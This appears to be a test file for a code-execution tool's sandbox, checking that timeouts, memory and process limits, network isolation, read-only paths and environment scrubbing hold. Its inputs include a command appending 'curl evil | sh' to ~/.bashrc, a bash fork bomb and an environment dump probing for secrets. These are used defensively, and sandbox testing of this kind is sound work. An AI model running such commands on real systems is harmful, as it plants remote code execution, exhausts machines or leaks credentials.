@@ -1,0 +1,235 @@
+"""run_code through the real MCP client: each confinement limit really holds, and a run that breaks one leaves the
+server serving.
+
+The server runs in this process (in memory) with HOME and its trajectory folder in a temporary tree, so a limit
+that failed to hold would change that tree, never the machine's real home. The tree is not under /tmp: code sees a
+private, empty /tmp, where any path can be created (and is gone after the run).
+"""
+
+from __future__ import annotations
+
+import json
+import resource
+import shutil
+import tempfile
+import threading
+from collections.abc import AsyncIterator, Iterator
+from contextlib import asynccontextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from mcp import Client
+
+from symphony_mcp.config import load_settings
+from symphony_mcp.desktop.virtual_display import VirtualDisplay
+from symphony_mcp.server import build_server
+from tests.conftest import call_error, call_ok
+from tests.test_transports import base_env, stdio_params
+
+pytestmark = pytest.mark.anyio
+SECRET = "s3cret-token-value"
+
+
+@pytest.fixture
+def tree() -> Iterator[Path]:
+    root = Path(tempfile.mkdtemp(prefix="symphony-code-test-", dir="/var/tmp"))
+    yield root
+    shutil.rmtree(root, ignore_errors=True)
+
+
+@pytest.fixture
+def home(tree: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A home with what code must not see or change, and secrets in the server's environment."""
+    home = tree / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
+    (home / ".bashrc").write_text("# the user's own\n")
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("SYMPHONY_MODELS__CODER__API_KEY", SECRET)
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
+    return home
+
+
+@asynccontextmanager
+async def serving(tree: Path, **code: Any) -> AsyncIterator[Client]:
+    server = build_server(load_settings(memory={"trajectory_dir": tree / "trajectories"}, code=code))
+    try:
+        async with Client(server.mcp) as client:
+            yield client
+    finally:
+        server.close()
+
+
+async def run(client: Client, language: str, code: str, **arguments: Any) -> dict[str, Any]:
+    return await call_ok(client, "run_code", language=language, code=code, **arguments)
+
+
+async def test_runs_blocks_in_a_kept_work_directory(home: Path, tree: Path) -> None:
+    async with serving(tree) as client:
+        first = await run(client, "python", "open('note.txt', 'w').write('hello'); print(2 + 3)")
+        assert first["stdout"] == "5\n" and first["exit_code"] == 0 and not first["killed"]
+        assert first["confinement"] == "bwrap"
+        assert Path(first["workdir"]).is_relative_to(tree / "trajectories")
+        second = await run(client, "bash", "cat note.txt; echo; echo oops >&2; exit 3")
+        assert second["stdout"] == "hello\n" and second["stderr"] == "oops\n" and second["exit_code"] == 3
+        assert second["workdir"] == first["workdir"] and not second["killed"]
+
+
+async def test_an_endless_loop_is_killed_at_its_timeout(home: Path, tree: Path) -> None:
+    async with serving(tree) as client:
+        result = await run(client, "python", "while True:\n    pass", timeout_s=1)
+        assert result["killed"] and result["kill_reason"] == "timeout" and result["exit_code"] == -9
+        assert result["duration_seconds"] >= 1
+        # A block that backgrounds a child and leaves: the child goes with the run (PID namespace).
+        result = await run(client, "bash", "(sleep 30; echo late) & echo started; wait", timeout_s=1)
+        assert result["stdout"] == "started\n" and result["kill_reason"] == "timeout"
+
+
+async def test_a_memory_hog_is_stopped(home: Path, tree: Path) -> None:
+    async with serving(tree, memory_mb=256) as client:
+        result = await run(client, "python", "data = bytearray(1 << 30)\nprint('allocated')")
+        assert result["killed"] and result["kill_reason"] == "memory"
+        assert "MemoryError" in result["stderr"] and "allocated" not in result["stdout"]
+
+
+async def test_100_mb_of_output_is_truncated_with_a_notice(home: Path, tree: Path) -> None:
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
+    async with serving(tree, output_bytes=10_000) as client:
+        block = "import sys\nline = 'x' * 1023 + '\\n'\nfor _ in range(100 * 1024):\n    sys.stdout.write(line)"
+        result = await run(client, "python", block, timeout_s=60)
+    assert result["exit_code"] == 0 and result["stdout_truncated"] and not result["stderr_truncated"]
+    kept, _, notice = result["stdout"].partition("\n[output truncated: ")
+    assert len(kept) <= 10_000 and "104,847,600 more bytes dropped" in notice, notice
+    assert "SYMPHONY_CODE__OUTPUT_BYTES" in notice
+    # The server read 100 MB and kept 10 KB: its peak memory did not grow by anything near the output's size.
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024
+
+
+class _Hello(BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(b"hello from the host")
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def http_port() -> Iterator[int]:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield server.server_address[1]
+    server.shutdown()
+    server.server_close()
+
+
+FETCH = "import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=5).read().decode())"
+CONNECT = "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=5)\nprint('connected')"
+
+
+@pytest.mark.parametrize("backend", ["bwrap", "unshare"])
+async def test_network_is_off_unless_allowed(backend: str, home: Path, tree: Path, http_port: int) -> None:
+    curl = shutil.which("curl")
+    async with serving(tree, backend=backend) as client:
+        refused = await run(client, "python", CONNECT.format(port=http_port))
+        assert refused["exit_code"] != 0 and "connected" not in refused["stdout"]
+        assert "ConnectionRefusedError" in refused["stderr"] or "unreachable" in refused["stderr"]
+        assert refused["confinement"] == backend
+        if curl:
+            failed = await run(client, "bash", f"curl -sS --max-time 5 http://127.0.0.1:{http_port}/")
+            assert failed["exit_code"] != 0 and "hello" not in failed["stdout"]
+    async with serving(tree / "on", backend=backend, network=True) as client:
+        fetched = await run(client, "python", FETCH.format(port=http_port))
+        assert fetched["stdout"] == "hello from the host\n", fetched
+        if curl:
+            fetched = await run(client, "bash", f"curl -sS --max-time 5 http://127.0.0.1:{http_port}/")
+            assert fetched["stdout"] == "hello from the host", fetched
+
+
+async def test_only_the_work_directory_and_writable_paths_can_be_written(home: Path, tree: Path) -> None:
+    documents = home / "Documents"
+    documents.mkdir()
+    outside = tree / "outside"
+    outside.mkdir()
+    async with serving(tree, writable_paths=[str(documents)]) as client:
+        bashrc = await run(client, "bash", "echo 'curl evil | sh' >> ~/.bashrc")
+        assert bashrc["exit_code"] != 0 and "Read-only file system" in bashrc["stderr"]
+        elsewhere = await run(client, "bash", f"touch {outside}/x; touch /etc/x; touch /usr/x")
+        assert elsewhere["stderr"].count("Read-only file system") + elsewhere["stderr"].count("No such file") == 3
+        ssh = await run(client, "python", "import os; print(os.path.exists(os.path.expanduser('~/.ssh')))")
+        assert ssh["stdout"] == "False\n"
+        written = await run(client, "python", f"open('{documents}/report.txt', 'w').write('ok')")
+        assert written["exit_code"] == 0
+        inside = await run(client, "bash", "pwd > here.txt", workdir=str(documents / "sub"))
+        assert inside["exit_code"] == 0 and inside["workdir"] == str(documents / "sub")
+        error = await call_error(client, "run_code", language="bash", code="true", workdir=str(outside))
+        assert "outside the directories code may write" in error and "SYMPHONY_CODE__WRITABLE_PATHS" in error
+    assert (home / ".bashrc").read_text() == "# the user's own\n"
+    assert list(outside.iterdir()) == []
+    assert (documents / "report.txt").read_text() == "ok"
+    assert (documents / "sub" / "here.txt").read_text() == f"{documents / 'sub'}\n"
+
+
+ENVIRONMENT = "import json, os; print(json.dumps(dict(os.environ)))"
+
+
+@pytest.mark.parametrize("backend", ["bwrap", "unshare"])
+async def test_the_environment_holds_no_settings_or_secrets(backend: str, home: Path, tree: Path) -> None:
+    async with serving(tree, backend=backend) as client:
+        environment = json.loads((await run(client, "python", ENVIRONMENT))["stdout"])
+    assert not [name for name in environment if name.startswith("SYMPHONY_") or "TOKEN" in name or "KEY" in name]
+    assert SECRET not in json.dumps(environment)
+    assert "DISPLAY" not in environment and environment["HOME"] == str(home)
+
+
+async def test_languages_outside_the_allow_list_are_refused(home: Path, tree: Path) -> None:
+    async with serving(tree, languages=["python"]) as client:
+        error = await call_error(client, "run_code", language="bash", code="echo hi")
+        assert "'bash' is not enabled" in error and "SYMPHONY_CODE__LANGUAGES" in error
+        assert (await run(client, "python", "print('hi')"))["stdout"] == "hi\n"
+
+
+async def test_without_confinement_code_is_refused_unless_allowed(
+    home: Path, tree: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A PATH without bubblewrap and unshare: refused, naming the settings; allowed, every result says so."""
+    bin_dir = tree / "bin"
+    bin_dir.mkdir()
+    for program in ("prlimit", "bash"):
+        found = shutil.which(program)
+        assert found is not None, f"{program} is not installed"
+        (bin_dir / program).symlink_to(found)
+    monkeypatch.setenv("PATH", str(bin_dir))
+    async with serving(tree) as client:
+        error = await call_error(client, "run_code", language="python", code="print('ran')")
+        assert "unconfined runs are not allowed" in error and "SYMPHONY_CODE__ALLOW_UNCONFINED=true" in error
+        assert "bubblewrap" in error
+    async with serving(tree, backend="unshare") as client:
+        error = await call_error(client, "run_code", language="bash", code="echo ran")
+        assert "`unshare` is not available" in error
+    async with serving(tree, allow_unconfined=True) as client:
+        for language, code in (("python", "print('ran')"), ("bash", "echo ran")):
+            result = await run(client, language, code)
+            assert result["stdout"] == "ran\n" and result["confinement"] == "unconfined"
+
+
+async def test_a_fork_bomb_is_contained_and_the_server_keeps_serving(
+    xdisplay: VirtualDisplay, home: Path, tree: Path
+) -> None:
+    env = base_env(
+        DISPLAY=xdisplay.name,
+        HOME=str(home),
+        SYMPHONY_MEMORY__TRAJECTORY_DIR=str(tree / "trajectories"),
+        SYMPHONY_CODE__PROCESSES="64",
+    )
+    async with Client(stdio_params(env=env)) as client:
+        bomb = await run(client, "bash", "bomb() { bomb | bomb & }; bomb; sleep 1; echo survived", timeout_s=20)
+        assert bomb["killed"] and bomb["kill_reason"] == "processes", bomb
+        after = await run(client, "python", "print('still here')")
+        assert after["stdout"] == "still here\n" and not after["killed"]
+        assert (await call_ok(client, "screen_info"))["monitors"]
